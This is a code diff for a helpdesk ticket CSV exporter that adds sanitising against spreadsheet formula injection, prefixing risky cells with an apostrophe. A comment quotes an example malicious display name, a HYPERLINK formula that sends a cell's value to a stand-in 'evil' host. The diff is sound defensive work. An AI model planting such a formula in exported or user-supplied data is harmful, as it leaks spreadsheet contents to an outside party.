@@ -155,9 +155,21 @@ def _moment(value: datetime | None) -> str:
     return value.strftime("%Y-%m-%dT%H:%M:%SZ") if value else ""
 
 
+# A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets
+# (OWASP "CSV Injection"): a requester's chat display name `=HYPERLINK("https://evil/?"&B2, "Open")`
+# would run in the MSP's spreadsheet. Such a cell is written with a leading apostrophe, which
+# they show as text.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def _cell(value: str) -> str:
+    return "'" + value if value.startswith(_FORMULA_START) else value
+
+
 def csv_row(row: TicketRow, now: datetime) -> list[str]:
-    """One ticket, in CSV_HEADER's order (times in UTC, ISO 8601)."""
-    return [
+    """One ticket, in CSV_HEADER's order (times in UTC, ISO 8601); a cell a spreadsheet would
+    take for a formula is made text."""
+    cells = [
         row.number,
         row.client,
         row.requester,
@@ -174,3 +186,4 @@ def csv_row(row: TicketRow, now: datetime) -> list[str]:
         str(row.time_minutes),
         "" if row.csat_rating is None else str(row.csat_rating),
     ]
+    return [_cell(cell) for cell in cells]
